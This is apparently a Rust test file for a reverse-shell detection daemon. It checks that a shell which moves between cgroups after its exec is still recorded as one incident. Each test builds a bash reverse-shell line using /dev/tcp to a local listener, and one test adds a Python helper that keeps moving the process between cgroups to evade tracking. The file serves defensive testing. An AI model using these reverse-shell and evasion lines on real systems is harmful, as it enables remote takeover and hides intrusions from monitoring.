//! Shells that move to another cgroup after their exec.

use std::path::{Path, PathBuf};

use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::victim::Victim;
use crate::common::{impossible, token};
use crate::{alone, found, is_of, require};

/// A cgroup of the test's own, in whatever hierarchy is there.
struct Group {
    path: PathBuf,
    name: String,
}

impl Group {
    fn new() -> Option<Self> {
        let name = token();
        let tops = ["/sys/fs/cgroup/unified", "/sys/fs/cgroup/systemd", "/sys/fs/cgroup"];
        let made =
            tops.iter().filter(|top| Path::new(top).join("cgroup.procs").exists()).find_map(|top| {
                let path = Path::new(top).join(&name);
                std::fs::create_dir(&path).is_ok().then_some(path)
            })?;
        Some(Self { path: made, name })
    }
}

impl Drop for Group {
    fn drop(&mut self) {
        // Those in it may take a moment to be gone.
        let _ = crate::common::wait_at_most(std::time::Duration::from_secs(5), || {
            std::fs::remove_dir(&self.path).ok()
        });
    }
}

/// The shell is found where it was; the commands that it runs elsewhere are its commands all the same.
#[test]
fn between_its_exec_and_its_commands() {
    require!("bash", "unshare");
    let _alone = alone();
    let Some(group) = Group::new() else { return impossible("no cgroup can be made here") };
    let daemon = Daemon::shared();
    for namespace in [false, true] {
        let attacker = Listener::tcp();
        let line = format!("exec bash --norc >&/dev/tcp/127.0.0.1/{} 0>&1", attacker.port());
        let victim = Victim::start("/bin/bash", &["-c", &line]);
        let mut session = attacker.accept();
        let shell = session.shell_pid();
        let first = found(daemon, attacker.port());
        session.run(&format!("echo $$ >{}/cgroup.procs", group.path.display()));
        let now = std::fs::read_to_string(format!("/proc/{shell}/cgroup")).unwrap();
        assert!(now.contains(&group.name), "{now}");
        let unshare = if namespace { "unshare --cgroup " } else { "" };
        session.run(&format!("{unshare}/bin/sh -c '/bin/sleep 0.2; :'"));
        let record = daemon.wait_for("its command", |record| {
            is_of(record, attacker.port()) && record.ran(&["/bin/sleep", "0.2"])
        });
        assert_eq!(record.id(), first.id(), "one incident: {}", record.brief());
        assert!(record.process(shell).is_some(), "{}", record.brief());
        // Where the shell was when it was found is what its record says: the move came later.
        assert_eq!(record.text("Cgroup_Path"), first.text("Cgroup_Path"));
        session.exit();
        drop(victim);
    }
}

/// From its exec on it goes to and fro.
#[test]
fn to_and_fro_all_the_time() {
    require!("bash", "/usr/bin/python3");
    let _alone = alone();
    let Some(group) = Group::new() else { return impossible("no cgroup can be made here") };
    let daemon = Daemon::shared();
    let attacker = Listener::tcp();
    let top = group.path.parent().unwrap().join("cgroup.procs");
    let code = format!(
        "import os\np=os.getppid()\nw=[os.open(f,os.O_WRONLY) for f in ('{}/cgroup.procs','{}')]\n\
         while os.getppid()==p:\n\x20for f in w: os.write(f,b'%d' % p)",
        group.path.display(),
        top.display()
    );
    let file = tempfile::tempdir().unwrap();
    let script = file.path().join("mover.py");
    std::fs::write(&script, code).unwrap();
    let line = format!(
        "/usr/bin/python3 {} </dev/null & exec bash --norc >&/dev/tcp/127.0.0.1/{} 0>&1",
        script.display(),
        attacker.port()
    );
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let mut session = attacker.accept();
    for _ in 0..20 {
        session.run("/usr/bin/id -u");
    }
    session.run("/bin/sleep 0.2");
    let record = daemon.wait_for("the shell and its commands", |record| {
        is_of(record, attacker.port()) && record.ran(&["/bin/sleep", "0.2"])
    });
    assert_eq!(record.row(), 1, "{}", record.brief());
    session.exit();
    drop(victim);
}
